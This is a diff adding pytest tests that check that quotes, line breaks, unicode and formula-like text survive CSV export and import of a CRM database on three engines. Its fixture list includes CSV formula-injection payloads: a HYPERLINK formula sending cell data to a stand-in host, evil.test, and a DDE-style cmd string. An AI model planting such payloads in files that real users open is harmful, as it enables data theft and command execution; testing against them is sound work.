@@ -2,14 +2,18 @@
 
 from __future__ import annotations
 
+import csv
 import importlib.util
 from pathlib import Path
 
+import pandas as pd
 import pytest
+import sqlalchemy as sa
 
 from crm_data import schema
 from crm_data.export import export_bundle
 from crm_data.importing import import_paths
+from crm_data.spreadsheet_safety import csv_text
 from tests.crm_data.test_importing import snapshot, write_bundle
 
 #: Every canonical table, with awkward values: quotes, commas and a line break in text,
@@ -184,3 +188,106 @@ def test_demo_data_round_trip(make_db, tmp_path: Path, kind: str) -> None:
     assert report.ok, report.render()
     assert report.rows == {name: counts[name] for name in schema.TABLE_NAMES if name in report.rows}
     assert snapshot(target) == snapshot(source)
+
+
+#: Text that must survive export -> import unchanged: line breaks of every kind (a bare
+#: carriage return too), quotes, commas, blanks around the text, unicode and formula-like
+#: text (a bundle is data: it is never neutralised). The survey comments also hold
+#: PostgreSQL's COPY null marker ``\\N`` (which sends that table down the import's row-by-row
+#: path on PostgreSQL; the other tables take COPY).
+TRICKY_TEXT = [
+    "carriage\rreturn",
+    "line\nfeed",
+    "windows\r\nline",
+    "\rleading carriage return",
+    "trailing carriage return\r",
+    "two\n\nbreaks\r\r",
+    'say "hi"',
+    '"all quoted"',
+    "comma, separated",
+    "  blanks around  ",
+    " leading blank",
+    "trailing blank ",
+    "Zoë Ñandú · 東京 · 🚀",
+    '=HYPERLINK("http://evil.test/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-5 days",
+    "\t=1+1",
+    "'already quoted",
+]
+
+
+COMMENTS = [*TRICKY_TEXT, "\\N"]
+
+
+def _tricky_bundle(folder: Path) -> Path:
+    """Accounts, deals and survey comments holding :data:`TRICKY_TEXT`, written with every
+    field quoted (so the input itself has no bare carriage return)."""
+    folder.mkdir(parents=True)
+    tables = {
+        "accounts": (
+            ["account_id", "name", "city", "created_at"],
+            [[f"A{i}", text, text, "2024-01-01T00:00:00Z"] for i, text in enumerate(TRICKY_TEXT)],
+        ),
+        "deals": (
+            ["deal_id", "account_id", "name", "amount", "created_at", "status"],
+            [[f"D{i}", f"A{i}", text, "-5", "2024-02-01", "open"] for i, text in enumerate(TRICKY_TEXT)],
+        ),
+        "survey_responses": (
+            ["response_id", "account_id", "survey", "score", "comment", "responded_at"],
+            [[f"R{i}", "A0", "nps", "9", text, "2024-03-01"] for i, text in enumerate(COMMENTS)],
+        ),
+    }
+    for name, (header, rows) in tables.items():
+        with open(folder / f"{name}.csv", "w", encoding="utf-8", newline="") as out:
+            writer = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)
+            writer.writerow(header)
+            writer.writerows(rows)
+    return folder
+
+
+def _texts(engine: sa.Engine, table: sa.Table, column: str) -> list[str]:
+    key = next(iter(table.primary_key.columns))
+    with engine.connect() as conn:
+        rows = conn.execute(sa.select(key, table.c[column])).all()
+    return [text for _, text in sorted(rows, key=lambda row: int(row[0][1:]))]
+
+
+@pytest.mark.parametrize("kind", ["duckdb", "postgresql", "sqlite"])
+def test_tricky_text_survives_export_and_import(make_db, tmp_path: Path, kind: str) -> None:
+    source = make_db(kind)
+    report = import_paths(source, [_tricky_bundle(tmp_path / "in")])
+    assert report.ok, report.render()
+    assert _texts(source, schema.accounts, "name") == TRICKY_TEXT
+
+    export_bundle(source, tmp_path / "out")
+    for name in ("accounts", "deals", "survey_responses"):
+        with open(tmp_path / "out" / f"{name}.csv", encoding="utf-8", newline="") as file:
+            rows = list(csv.reader(file))
+        assert len(rows) == len(COMMENTS if name == "survey_responses" else TRICKY_TEXT) + 1, name
+        assert {len(row) for row in rows} == {len(rows[0])}, name
+    text = (tmp_path / "out" / "accounts.csv").read_bytes().decode("utf-8")
+    assert '\nA0,"carriage\rreturn",' in text  # quoted, not bare
+    formula, days = TRICKY_TEXT.index("@SUM(1+1)"), TRICKY_TEXT.index("-5 days")
+    assert f"\nA{formula},@SUM(1+1)," in text and f"\nA{days},-5 days," in text  # exact, not neutralised
+
+    target = make_db(kind, create=False)
+    report = import_paths(target, [tmp_path / "out"])
+    assert report.ok, report.render()
+    assert snapshot(target) == snapshot(source)
+    assert _texts(target, schema.accounts, "name") == TRICKY_TEXT
+    assert _texts(target, schema.accounts, "city") == TRICKY_TEXT
+    assert _texts(target, schema.deals, "name") == TRICKY_TEXT
+    assert _texts(target, schema.survey_responses, "comment") == COMMENTS
+
+
+def test_csv_text_quotes_carriage_returns_and_otherwise_is_pandas_output() -> None:
+    plain = pd.DataFrame({"a": ["x", 'q"q', "c,d", "l\nf", None], "b": ["1", "2", "3", "4", "5"]})
+    assert csv_text(plain) == plain.to_csv(index=False, lineterminator="\n")
+    tricky = pd.DataFrame({"a": ["x\ry", "x\r\ny", "\r", None, 'q"\r'], "b": ["1", "2", "3", "4", "5"]})
+    assert csv_text(tricky, header=False, na_rep="NULL") == (
+        '"x\ry",1\n"x\r\ny",2\n"\r",3\nNULL,4\n"q""\r",5\n'
+    )
+    # a one-column row holding an empty text stays a row
+    assert csv_text(pd.DataFrame({"a": ["\r", ""]})) == 'a\n"\r"\n""\n'
